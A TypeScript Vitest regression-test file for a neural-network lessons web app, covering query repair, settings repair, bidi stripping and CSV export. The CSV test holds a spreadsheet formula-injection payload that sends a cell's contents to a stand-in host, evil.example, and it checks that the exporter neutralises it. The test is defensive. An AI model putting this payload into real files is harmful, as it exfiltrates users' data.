/** Regression tests for issue 16 ("What a tester broke"), the parts that need no browser. */
import { describe, expect, it, vi } from 'vitest';
import { getQueryParams } from '@tensorflow/tfjs-core/dist/environment';
import { repairQuery } from '../../src/app/pageQuery';
import { formatValue, param, parseParams, show, stripBidi, type ParamTable } from '../../src/store/params';
import { experimentHeaderOf, historyCsv } from '../../src/viz/export';
import { ladder, scrubKey, specOf, type ScrubSpec } from '../../src/kit/exercises/scrub';
import { loadAndRepairSettings, parseBackendFlag, SETTINGS_KEY } from '../../src/store/settings';
import { loadAndRepairProgress, PROGRESS_KEY } from '../../src/store/progress';
import { loadAndRepairVerdicts, VERDICTS_KEY } from '../../src/store/backendVerdicts';

describe('1. a malformed page query is repaired before TensorFlow.js reads it', () => {
  const BAD = ['?x=%', '?present=1%', '?backend=%E0%A4%A', '?%=1', '?a=1&b=%zz&c=3', '?tfjsflags=foo', '?tfjsflags=%'];
  it.each(BAD)('%s: tfjs can parse the repaired query, and a problem is reported', (search) => {
    expect(() => getQueryParams(search) && parseTfjsFlags(search)).toThrow();
    const r = repairQuery(search);
    expect(r.problems.length).toBeGreaterThan(0);
    expect(() => parseTfjsFlags(r.search)).not.toThrow();
    expect(new URLSearchParams(r.search).has('tfjsflags')).toBe(false);
  });
  it('keeps what could be read', () => {
    expect(new URLSearchParams(repairQuery('?present=1%').search).get('present')).toBe('1%');
    expect(new URLSearchParams(repairQuery('?a=1&b=%zz&c=3').search).get('c')).toBe('3');
    expect(new URLSearchParams(repairQuery('?backend=%E0%A4%A').search).get('backend')).toBe('\uFFFD%A');
  });
  it.each(['', '?', '?backend=webgl', '?present=1&backend=wasm', '?q=a%20b&x=%E2%9C%93'])(
    '%s is left exactly as it is',
    (search) => {
      expect(repairQuery(search)).toEqual({ search, problems: [] });
    },
  );
});

/** What tfjs-core does with location.search when it is first imported (environment.ts). */
function parseTfjsFlags(search: string): void {
  const params = getQueryParams(search);
  if ('tfjsflags' in params) {
    for (const kv of params.tfjsflags.split(',')) {
      const [, value] = kv.split(':');
      (value as string).toLowerCase();
    }
  }
}

describe('7. a bad saved setting is written back repaired', () => {
  const storage = (raw: string | null) => {
    const data = new Map<string, string>();
    if (raw !== null) data.set(SETTINGS_KEY, raw);
    return {
      data,
      getItem: (k: string) => data.get(k) ?? null,
      setItem: (k: string, v: string) => void data.set(k, v),
    };
  };
  it('reports once: the next load finds valid settings', () => {
    const s = storage('{"backend":"gpu","motion":"reduce"}');
    const first = loadAndRepairSettings(s);
    expect(first.problem).toBeTruthy();
    expect(first.settings).toEqual({ backend: 'auto', motion: 'reduce', theme: 'system' });
    const second = loadAndRepairSettings(s);
    expect(second.problem).toBeUndefined();
    expect(second.settings).toEqual({ backend: 'auto', motion: 'reduce', theme: 'system' });
  });
  it('unreadable JSON is replaced too; valid or absent settings are not written', () => {
    const bad = storage('{not json');
    expect(loadAndRepairSettings(bad).problem).toBeTruthy();
    expect(loadAndRepairSettings(bad).problem).toBeUndefined();
    const none = storage(null);
    loadAndRepairSettings(none);
    expect(none.data.size).toBe(0);
    const good = storage('{"backend":"wasm"}');
    loadAndRepairSettings(good);
    expect(good.data.get(SETTINGS_KEY)).toBe('{"backend":"wasm"}');
  });
});

describe('8. bidi controls never reach an echoed value', () => {
  const RLO = '\u202E';
  const ALL = '\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C';
  it('stripBidi and show drop every bidi control', () => {
    expect(stripBidi(`a${ALL}b`)).toBe('ab');
    expect(show(`${RLO}xor`)).toMatch(/^"xor" /);
    expect(show(`${RLO}xor`)).not.toContain(RLO);
  });
  it('lesson parameter notices and the backend notice', () => {
    const table = { dataset: param.enum({ label: 'Dataset', options: ['xor', 'circle'] as const, default: 'xor' }) };
    const { problems } = parseParams(table, new URLSearchParams(`dataset=${encodeURIComponent(`${RLO}spiral`)}`));
    expect(problems.join('')).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/);
    expect(problems[0]).toContain('"spiral"');
    expect(parseBackendFlag(`${RLO}gpu`).problem).toContain('"gpu"');
    expect(parseBackendFlag(`${RLO}gpu`).problem).not.toContain(RLO);
  });
});

describe('8. one numbering of the convolution lesson’s test digits', () => {
  it('cnnTestIndices is the split the worker uses', async () => {
    const { cnnTestIndices, splitMnist, MNIST_SPLIT_SEED } = await import('../../src/engine/data/mnist');
    const { TRAIN_COUNT, TEST_COUNT } = await import('../../src/engine/tasks/cnn');
    const count = 10000;
    const data = { count, rows: 28, cols: 28, images: new Uint8Array(count * 784), labels: new Uint8Array(count) };
    const split = splitMnist(data as never, { seed: MNIST_SPLIT_SEED, trainCount: TRAIN_COUNT, testCount: TEST_COUNT });
    expect(Array.from(cnnTestIndices(count))).toEqual(Array.from(split.testIndices));
    expect(cnnTestIndices(count)[0]).not.toBe(0);
  });
});

/* ---------- Issue 26 ("what a tester found, round two") ---------- */

describe('26.7 every locked package runs on the Node version the README and engines name', () => {
  it('the minimum of package.json engines.node satisfies each package’s engines.node', async () => {
    const { readFileSync } = await import('node:fs');
    // semver comes with the toolchain (Babel's), untyped here; only these two functions are used.
    const semver = (await import('semver' as string)).default as {
      minVersion(range: string): { version: string } | null;
      satisfies(v: string, range: string): boolean;
    };
    const pkg = JSON.parse(readFileSync('package.json', 'utf8')) as { engines: { node: string } };
    const lock = JSON.parse(readFileSync('package-lock.json', 'utf8')) as {
      packages: Record<string, { version?: string; engines?: { node?: string } | string[] }>;
    };
    const min = semver.minVersion(pkg.engines.node)!.version;
    // The README says the same minimum.
    expect(readFileSync('README.md', 'utf8')).toContain(`Node ${min.replace(/\.0$/, '')}+`);
    const refused = Object.entries(lock.packages)
      .filter(([, p]) => p.engines && !Array.isArray(p.engines) && p.engines.node)
      .filter(([, p]) => !semver.satisfies(min, (p.engines as { node: string }).node))
      .map(([name, p]) => `${name}@${p.version} wants node ${(p.engines as { node: string }).node}`);
    expect(refused).toEqual([]);
  });
});

describe('26.3 every stored key is repaired once and reported, the remembered backend choices too', () => {
  const storage = (key: string, raw: string) => {
    const data = new Map<string, string>([[key, raw]]);
    return {
      data,
      getItem: (k: string) => data.get(k) ?? null,
      setItem: (k: string, v: string) => void data.set(k, v),
    };
  };
  // The app's stored keys (grep localStorage / safeStorage: settings.ts, progress.ts, backendVerdicts.ts).
  const KEYS = [
    { key: SETTINGS_KEY, load: loadAndRepairSettings },
    { key: PROGRESS_KEY, load: loadAndRepairProgress },
    { key: VERDICTS_KEY, load: loadAndRepairVerdicts },
  ];
  for (const { key, load } of KEYS) {
    it.each(['true', '[1]', '"x"', '{not json', '42'])(
      `${key} = %s: a problem on the first load, none on the next`,
      (raw) => {
        const s = storage(key, raw);
        expect(load(s).problem).toBeTruthy();
        expect(s.data.get(key)).not.toBe(raw);
        expect(load(s).problem).toBeUndefined();
      },
    );
  }
  it('a verdict that cannot be read is dropped; the others are kept', () => {
    const s = storage(
      VERDICTS_KEY,
      JSON.stringify({
        'mlp:small': { name: 'wasm', reason: 'timed' },
        'cnn:large': { name: 'gpu', reason: 'x' },
        'x:y': true,
      }),
    );
    const first = loadAndRepairVerdicts(s);
    expect(first.problem).toMatch(/^2 remembered backend choices could not be read/);
    expect(first.verdicts).toEqual({ 'mlp:small': { name: 'wasm', reason: 'timed' } });
    expect(JSON.parse(s.data.get(VERDICTS_KEY)!)).toEqual({ 'mlp:small': { name: 'wasm', reason: 'timed' } });
    expect(loadAndRepairVerdicts(s).problem).toBeUndefined();
  });
});

describe('26.4 a value with invisible control characters is refused, and the notice says why', () => {
  const RLO = '\u202E';
  it('the backend flag', () => {
    const p = parseBackendFlag(`${RLO}wasm`);
    expect(p.backend).toBeUndefined();
    expect(p.problem).toBe(
      'backend: "wasm" contains invisible control characters (left out here), so it was not read; choosing automatically',
    );
  });
  it('lesson parameters of every kind', () => {
    const table = {
      dataset: param.enum({ label: 'Dataset', options: ['xor', 'circle'] as const, default: 'xor' }),
      acts: param.set({ label: 'Activations', options: ['relu', 'sigmoid'] as const, default: ['relu'], minItems: 1 }),
      lr: param.number({ label: 'η', min: 0.001, max: 1, default: 0.1 }),
      on: param.bool({ label: 'On', default: false }),
    };
    const q = new URLSearchParams({
      dataset: `${RLO}circle`,
      acts: `relu,${RLO}sigmoid`,
      lr: `0.5${RLO}`,
      on: `${RLO}1`,
    });
    const { values, problems } = parseParams(table, q);
    expect(values).toEqual({ dataset: 'xor', acts: ['relu'], lr: 0.1, on: false });
    expect(problems).toEqual([
      'dataset: "circle" contains invisible control characters (left out here), so it was not read; using xor',
      'acts: "relu,sigmoid" contains invisible control characters (left out here), so it was not read; using relu',
      'lr: "0.5" contains invisible control characters (left out here), so it was not read; using 0.1',
      'on: "1" contains invisible control characters (left out here), so it was not read; using false',
    ]);
  });
  it('anywhere else a value is echoed, show() says that something was left out', () => {
    expect(show(`${RLO}1%`)).toBe('"1%" (with invisible control characters, left out here)');
    expect(show('1%')).toBe('"1%"');
  });
});

describe('26.11 a scrubbable number reaches the maximum it announces and comes back to its default', () => {
  const walk = (spec: ScrubSpec, from: number, key: string) => {
    let v = from;
    for (let i = 0; i < 20000; i++) {
      const next = scrubKey(key, v, spec)!;
      if (next === v) break;
      v = next;
    }
    return v;
  };
  /** Steps from `from` towards `to` with the arrow keys; the values passed on the way. */
  const towards = (spec: ScrubSpec, from: number, to: number) => {
    const seen = [from];
    for (let i = 0; i < 20000 && seen.at(-1)! !== to; i++) {
      const v = scrubKey(to > seen.at(-1)! ? 'ArrowUp' : 'ArrowDown', seen.at(-1)!, spec)!;
      if (v === seen.at(-1)) break;
      seen.push(v);
    }
    return seen;
  };
  it('the optimizers’ SGD step: its ladder runs from 0.0001 to 3 through its default', async () => {
    const { PARAMS } = await import('../../lessons/optimizers/params');
    const spec = specOf(PARAMS.sgdLr);
    const d = PARAMS.sgdLr.default;
    const steps = ladder(spec.min, spec.max, spec.marks);
    expect(steps[0]).toBe(0.0001);
    expect(steps.at(-1)).toBe(3);
    expect(steps).toContain(d);
    const i = steps.indexOf(d);
    expect(scrubKey('End', d, spec)).toBe(3);
    expect(scrubKey('ArrowUp', 2, spec)).toBe(3);
    expect(scrubKey('ArrowDown', steps[i + 1]!, spec)).toBe(d);
    expect(scrubKey('ArrowUp', steps[i - 1]!, spec)).toBe(d);
  });
  it.each([
    'convolution',
    'layer-wise-pretraining',
    'optimizers',
    'perceptron-xor',
    'regularization',
    'relu-vs-sigmoid',
    'vanishing-gradients',
    'backprop-graph',
  ])('every number parameter of %s: from the default, keys reach min and max, and come back', async (slug) => {
    const { PARAMS } = (await import(`../../lessons/${slug}/params.ts`)) as { PARAMS: ParamTable };
    for (const [key, def] of Object.entries(PARAMS)) {
      if (def.kind !== 'number' && def.kind !== 'int') continue;
      const spec = specOf(def);
      const d = def.default;
      expect(walk(spec, d, 'ArrowUp'), `${key}: up from ${d}`).toBe(def.max);
      expect(walk(spec, d, 'ArrowDown'), `${key}: down from ${d}`).toBe(def.min);
      expect(scrubKey('End', d, spec), `${key}: End`).toBe(def.max);
      expect(scrubKey('Home', d, spec), `${key}: Home`).toBe(def.min);
      expect(towards(spec, def.max, d).at(-1), `${key}: back down to ${d}`).toBe(d);
      expect(towards(spec, def.min, d).at(-1), `${key}: back up to ${d}`).toBe(d);
    }
  });
});

describe('26.14 the formula queue holds no element after it is done with it', () => {
  it('an element whose formula was cancelled (its lesson left) can be collected', async () => {
    const { setFlagsFromString } = await import('node:v8');
    const { runInNewContext } = await import('node:vm');
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const observed = new Set<object>();
    class FakeIO {
      constructor(public cb: IntersectionObserverCallback) {}
      observe(el: Element) {
        observed.add(el);
      }
      unobserve(el: Element) {
        observed.delete(el);
      }
      disconnect() {
        observed.clear();
      }
    }
    const g = globalThis as Record<string, unknown>;
    const saved = { IntersectionObserver: g.IntersectionObserver, window: g.window };
    g.IntersectionObserver = FakeIO;
    g.window = globalThis;
    try {
      vi.resetModules();
      const { whenDue } = await import('../../src/math/formulaQueue');
      // The first lesson's formulas, then leaving the lesson (React unmounts: each cancel runs).
      // (Made and cancelled in plain functions: a suspended async function would keep the last one in a register.)
      const refs: WeakRef<object>[] = [];
      const cancels: (() => void)[] = [];
      const mount = (i: number) => {
        const el = { id: `formula-${i}`, tree: new Array(1000).fill(i) };
        refs.push(new WeakRef(el));
        cancels.push(whenDue(el as unknown as Element, () => {}));
      };
      for (let i = 0; i < 3; i++) mount(i);
      expect(observed.size).toBe(3);
      cancels.splice(0).forEach((c) => c());
      expect(observed.size).toBe(0);
      // A later lesson's formula keeps the queue (and its observer) in use.
      const later = { id: 'later' };
      const cancelLater = whenDue(later as unknown as Element, () => {});
      for (let i = 0; i < 3; i++) {
        await new Promise((r) => setTimeout(r, 0));
        gc();
      }
      expect(refs.map((r) => r.deref() === undefined)).toEqual([true, true, true]);
      cancelLater();
    } finally {
      for (const [k, v] of Object.entries(saved)) {
        if (v === undefined) delete g[k];
        else g[k] = v;
      }
      vi.resetModules();
    }
  });
});

/** The cells of a CSV text as a spreadsheet splits them (RFC 4180 quoting). */
function csvCells(text: string): { cell: string; quoted: boolean }[][] {
  const rows: { cell: string; quoted: boolean }[][] = [];
  for (const line of text.split('\n').filter(Boolean)) {
    const row: { cell: string; quoted: boolean }[] = [];
    let i = 0;
    while (i <= line.length) {
      if (line[i] === '"') {
        let cell = '';
        i++;
        for (;;) {
          if (line[i] === '"' && line[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else if (line[i] === '"') break;
          else cell += line[i++];
        }
        row.push({ cell, quoted: true });
        i += 2; // closing quote and comma
      } else {
        const end = line.indexOf(',', i) < 0 ? line.length : line.indexOf(',', i);
        row.push({ cell: line.slice(i, end), quoted: false });
        i = end + 1;
      }
    }
    rows.push(row);
  }
  return rows;
}

describe('26.8 CSV export: the values the run used, and no formula cells', () => {
  it('the header names the parsed seed and settings, not the link’s raw text', async () => {
    const { PARAMS } = await import('../../lessons/relu-vs-sigmoid/params');
    const { values } = parseParams(PARAMS, new URLSearchParams('depth=999&seed=123456&lr=abc'));
    const v = values as Record<string, unknown>;
    const h = experimentHeaderOf(
      'relu-vs-sigmoid',
      { table: PARAMS, values: v, format: (k) => formatValue(PARAMS[k as keyof typeof PARAMS], v[k]) },
      'http://x/#/lessons/relu-vs-sigmoid?depth=999&seed=123456&lr=abc',
      new Date(0),
    );
    expect(h.seed).toBe('9999');
    expect(h.settings).toContain('depth=6');
    expect(h.settings).toContain('seed=9999');
    expect(h.settings).toContain('lr=0.1');
    expect(h.settings).not.toContain('abc');
  });
  it('a formula in a link or a label becomes text (OWASP: a leading quote), every field quoted, numbers stay numbers', () => {
    const evil = '1,=HYPERLINK("http://evil.example/?leak="&A3,"help")';
    const csv = historyCsv(
      [
        { label: '=SUM(A1:A9)', x: [1, 2], y: [-0.5, 2], n: 2 },
        { label: '@cmd', x: [1], y: [1e-7], n: 1 },
        { label: '+1', x: [2], y: [-3], n: 1 },
        { label: '\tx', x: [2], y: [4], n: 1 },
      ],
      { lesson: 'x', seed: evil, settings: `seed=${evil}`, link: `http://x/#/lessons/x?seed=${evil}` },
    );
    const rows = csvCells(csv);
    // Header lines: one cell each, whatever the value holds.
    expect(rows.slice(0, 4).map((r) => r.length)).toEqual([1, 1, 1, 1]);
    expect(rows[1]![0]!.cell).toBe(`# seed: ${evil}`);
    expect(rows[4]!.map((c) => c.cell)).toEqual(['step', "'=SUM(A1:A9)", "'@cmd", "'+1", "'\tx"]);
    for (const row of rows) {
      for (const { cell, quoted } of row) {
        if (quoted) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
        else expect(cell === '' || Number.isFinite(Number(cell)), cell).toBe(true);
      }
    }
    expect(rows[5]!.map((c) => c.cell)).toEqual(['1', '-0.5', '1e-7', '', '']);
  });
});

describe('26.6 npm test moves the e2e server to a free port when 4317 is taken, and names who holds it', () => {
  it('choosePort skips a taken port; portHolder names the process; test.mjs passes the port on', async () => {
    const { createServer } = await import('node:net');
    const { readFileSync } = await import('node:fs');
    // @ts-expect-error: plain ESM helper of the scripts
    const ports = (await import('../../scripts/ports.mjs')) as {
      choosePort(p: number, tries?: number): Promise<{ port: number | null; taken: boolean }>;
      isPortFree(p: number): Promise<boolean>;
      portHolder(p: number): string | null;
    };
    // A leftover preview server: something listening on the port npm test wants.
    const srv = createServer();
    await new Promise<void>((r) => srv.listen({ port: 0, host: '127.0.0.1' }, r));
    const held = (srv.address() as { port: number }).port;
    try {
      expect(await ports.isPortFree(held)).toBe(false);
      const chosen = await ports.choosePort(held);
      expect(chosen.taken).toBe(true);
      expect(chosen.port).not.toBe(held);
      expect(await ports.isPortFree(chosen.port!)).toBe(true);
      // With no other port allowed (E2E_PORT set): no port, so test.mjs stops with a message.
      expect(await ports.choosePort(held, 1)).toEqual({ port: null, taken: true });
      const who = ports.portHolder(held);
      if (who !== null) expect(who).toContain(`pid ${process.pid}`);
    } finally {
      await new Promise((r) => srv.close(r));
    }
    expect(await ports.choosePort(held)).toEqual({ port: held, taken: false });
    const script = readFileSync('scripts/test.mjs', 'utf8');
    expect(script).toMatch(/choosePort\(/);
    expect(script).toMatch(/E2E_PORT: String\(port\)/);
  });
});

describe('26.15 the deploy recipe says which header stops framing (a meta CSP cannot)', () => {
  it('README names frame-ancestors and X-Frame-Options; the meta policy does not pretend to set it', async () => {
    const { readFileSync } = await import('node:fs');
    const readme = readFileSync('README.md', 'utf8');
    const deploy = readme.slice(
      readme.indexOf('**Deploying:**'),
      readme.indexOf('\n## ', readme.indexOf('**Deploying:**')),
    );
    expect(deploy).toContain("Content-Security-Policy: frame-ancestors 'self'");
    expect(deploy).toContain('X-Frame-Options: SAMEORIGIN');
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/.exec(
      readFileSync('index.html', 'utf8'),
    )![1]!;
    expect(meta).not.toContain('frame-ancestors');
  });
});
